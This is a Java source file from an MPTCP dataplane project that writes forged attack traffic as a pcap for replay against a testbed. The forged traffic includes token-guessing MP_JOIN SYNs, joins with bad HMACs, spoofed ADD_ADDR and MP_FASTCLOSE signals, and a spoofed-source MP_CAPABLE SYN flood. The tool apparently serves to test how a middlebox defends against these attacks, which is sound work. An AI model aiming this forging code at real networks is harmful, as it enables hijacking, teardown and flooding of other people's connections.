package org.mpdp.dataplane.analyze;

import java.io.BufferedOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.SplittableRandom;

import org.mpdp.dataplane.wire.Mptcp;
import org.mpdp.dataplane.wire.MptcpOptionWriter;

/**
 * Writes forged MPTCP signalling as a pcap, for injection from an attacker's host (e.g. with
 * {@code tcpreplay}): what an attacker on one path could send against a connection it watches. Every
 * frame goes from the attacker's side towards the server, built with mpdp's own encoders, with valid
 * IP and TCP checksums, and is marked so that a capture can find it: IPv4 identification and TCP
 * window {@value #MARK} (mpdp's checks never look at either).
 *
 * <p>What each attack assumes the attacker knows (see README "Attacks through the live testbed"):
 * <ul>
 * <li>{@link #joinRandomTokens}: only the server's address and port (tokens are guessed);</li>
 * <li>{@link #joinBadHmac}: the connection's token, seen in a real MP_JOIN SYN on the attacker's path
 *     (it travels in clear), but not the keys, so the third ACK's HMAC is guessed or replayed from a
 *     real join's third ACK (which was computed over other nonces);</li>
 * <li>{@link #onSubflow} (ADD_ADDR, MP_FASTCLOSE): a live subflow's 4-tuple and sequence numbers, as
 *     seen on the path, but not the keys, so the ADD_ADDR HMAC and the FASTCLOSE key are guessed;</li>
 * <li>{@link #mpCapableFlood}: nothing; the sources are spoofed from a prefix.</li>
 * </ul>
 * The SYN of a join with the right token carries no HMAC, so it is valid and a middlebox has to let it
 * through; its forged third ACK is what must not reach the server.
 */
public final class AttackTrace implements AutoCloseable
{
    /** IPv4 identification and TCP window of every forged frame. */
    public static final int MARK = 0xA77A;

    private final OutputStream out;
    private final FrameBuilder frames;
    private final SplittableRandom random;
    private final long gapMicros;
    private long now = 1_700_000_000_000_000L;

    /**
     * @param file      pcap to write.
     * @param srcMac    source MAC of every frame (the attacker's).
     * @param dstMac    destination MAC (the next hop towards the server).
     * @param seed      seed of everything guessed (tokens, nonces, HMACs, keys, spoofed sources).
     * @param gapMicros time between frames in the file: {@code tcpreplay} keeps it unless told a rate, so
     *                  a join's third ACK follows its SYN after the server has answered.
     * @throws IOException if the file cannot be written.
     */
    public AttackTrace(final Path file, final byte[] srcMac, final byte[] dstMac, final long seed, final long gapMicros)
        throws IOException
    {
        out = new BufferedOutputStream(Files.newOutputStream(file), 1 << 16);
        frames = new FrameBuilder(out, 1 << 20, seed);
        frames.macs(srcMac, dstMac);
        random = new SplittableRandom(seed);
        this.gapMicros = gapMicros;
    }

    /**
     * MP_JOIN SYNs with random tokens (RFC 8684 3.2), from consecutive source ports.
     *
     * @param src       source address (4 or 16 bytes).
     * @param srcPort   first source port.
     * @param dst       server address.
     * @param dstPort   server port.
     * @param count     SYNs.
     * @param avoid     a token not to send (the real one), or any value.
     * @return frames written.
     * @throws IOException if writing fails.
     */
    public int joinRandomTokens(final byte[] src, final int srcPort, final byte[] dst, final int dstPort,
        final int count, final int avoid) throws IOException
    {
        for (int i = 0; i < count; i++)
        {
            final int token = random.nextInt();
            joinSyn(src, srcPort + i, dst, dstPort, token == avoid ? token + 1 : token);
        }
        return count;
    }

    /**
     * A join with the right token: the SYN (which a middlebox must forward: it carries no HMAC), then,
     * one gap later, the third ACK with an HMAC that is not the keys' over the nonces the server chose.
     *
     * @param src     source address.
     * @param srcPort source port.
     * @param dst     server address.
     * @param dstPort server port.
     * @param token   the connection's token (the server's, as a real join SYN carries it).
     * @param hmac    the 20-byte HMAC to send (a real join's, replayed), or null for random bytes.
     * @return frames written.
     * @throws IOException if writing fails.
     */
    public int joinBadHmac(final byte[] src, final int srcPort, final byte[] dst, final int dstPort, final int token,
        final byte[] hmac) throws IOException
    {
        final int seq = random.nextInt();
        joinSyn(src, srcPort, dst, dstPort, token, seq);
        final byte[] forged = hmac != null ? hmac.clone() : new byte[20];
        if (hmac == null)
        {
            for (int i = 0; i < forged.length; i++)
            {
                forged[i] = (byte)random.nextInt(256);
            }
        }
        // The server's ISN is unknown to a blind attacker: the ACK number is guessed too.
        final int o = begin(src, srcPort, dst, dstPort, seq + 1, random.nextInt(), Mptcp.TCP_ACK, Mptcp.JOIN_ACK_LENGTH);
        frames.end(MptcpOptionWriter.mpJoinAck(frames.segment(), o, forged), 0, 0);
        return 2;
    }

    /** Which signal {@link #onSubflow} forges. */
    public enum Signal
    {
        /** ADD_ADDR (RFC 8684 3.4.1) of {@code announced} with a guessed truncated HMAC. */
        ADD_ADDR,
        /** MP_FASTCLOSE (RFC 8684 3.5) with a guessed key. */
        FASTCLOSE
    }

    /**
     * A signal on a live subflow's 4-tuple, as if its sender (the side given as {@code src}) had sent it.
     *
     * @param signal    what to forge.
     * @param src       source address (a real subflow end, spoofed).
     * @param srcPort   its port.
     * @param dst       the other end.
     * @param dstPort   its port.
     * @param seq       TCP sequence number (as sniffed; any value for a blind attacker).
     * @param ack       TCP acknowledgment number.
     * @param announced address an ADD_ADDR announces (ignored for FASTCLOSE).
     * @param addressId address ID of an ADD_ADDR.
     * @return frames written.
     * @throws IOException if writing fails.
     */
    public int onSubflow(final Signal signal, final byte[] src, final int srcPort, final byte[] dst, final int dstPort,
        final int seq, final int ack, final byte[] announced, final int addressId) throws IOException
    {
        if (signal == Signal.ADD_ADDR)
        {
            final int length = Mptcp.ADD_ADDR_BASE_LENGTH + announced.length + Mptcp.ADD_ADDR_HMAC_LENGTH;
            final int o = begin(src, srcPort, dst, dstPort, seq, ack, Mptcp.TCP_ACK, length);
            frames.end(MptcpOptionWriter.addAddr(frames.segment(), o, false, addressId, announced, -1,
                random.nextLong()), 0, 0);
        }
        else
        {
            final int o = begin(src, srcPort, dst, dstPort, seq, ack, Mptcp.TCP_ACK, Mptcp.MP_FASTCLOSE_LENGTH);
            frames.end(MptcpOptionWriter.mpFastclose(frames.segment(), o, random.nextLong()), 0, 0);
        }
        return 1;
    }

    /**
     * MP_CAPABLE SYNs (v1, RFC 8684 3.1) from spoofed sources spread over an IPv4 prefix and source
     * ports 1024..65535. Written without gaps: replay them at a chosen rate.
     *
     * @param network   the prefix's network address (host order).
     * @param bits      the prefix length, 8..32.
     * @param dst       server address (4 bytes).
     * @param dstPort   server port.
     * @param count     SYNs.
     * @return frames written.
     * @throws IOException if writing fails.
     */
    public int mpCapableFlood(final int network, final int bits, final byte[] dst, final int dstPort, final int count)
        throws IOException
    {
        final int hostMask = bits == 32 ? 0 : -1 >>> bits;
        final byte[] src = new byte[4];
        for (int i = 0; i < count; i++)
        {
            final int a = network & ~hostMask | random.nextInt() & hostMask;
            src[0] = (byte)(a >>> 24);
            src[1] = (byte)(a >>> 16);
            src[2] = (byte)(a >>> 8);
            src[3] = (byte)a;
            final int o = frames.begin(now, false, src, dst, 1024 + random.nextInt(64512), dstPort, random.nextInt(), 0,
                Mptcp.TCP_SYN, MARK, Mptcp.MPC_SYN_V1_LENGTH, 0, MARK, true);
            frames.end(MptcpOptionWriter.mpCapable(frames.segment(), o, Mptcp.MPC_SYN_V1_LENGTH, 1, Mptcp.MPC_FLAG_H,
                0, 0, 0, 0), 0, 0);
            now++;
        }
        return count;
    }

    /**
     * @return frames written so far.
     */
    public long frames()
    {
        return frames.frames();
    }

    private void joinSyn(final byte[] src, final int srcPort, final byte[] dst, final int dstPort, final int token)
        throws IOException
    {
        joinSyn(src, srcPort, dst, dstPort, token, random.nextInt());
    }

    private void joinSyn(final byte[] src, final int srcPort, final byte[] dst, final int dstPort, final int token,
        final int seq) throws IOException
    {
        final int o = begin(src, srcPort, dst, dstPort, seq, 0, Mptcp.TCP_SYN, Mptcp.JOIN_SYN_LENGTH);
        frames.end(MptcpOptionWriter.mpJoinSyn(frames.segment(), o, false, 2, token, random.nextInt()), 0, 0);
    }

    private int begin(final byte[] src, final int srcPort, final byte[] dst, final int dstPort, final int seq,
        final int ack, final int flags, final int optionLength) throws IOException
    {
        final int o = frames.begin(now, src.length == 16, src, dst, srcPort, dstPort, seq, ack, flags, MARK,
            (optionLength + 3) & ~3, 0, MARK, true);
        now += gapMicros;
        return o;
    }

    @Override
    public void close() throws IOException
    {
        frames.flush();
        out.close();
    }
}
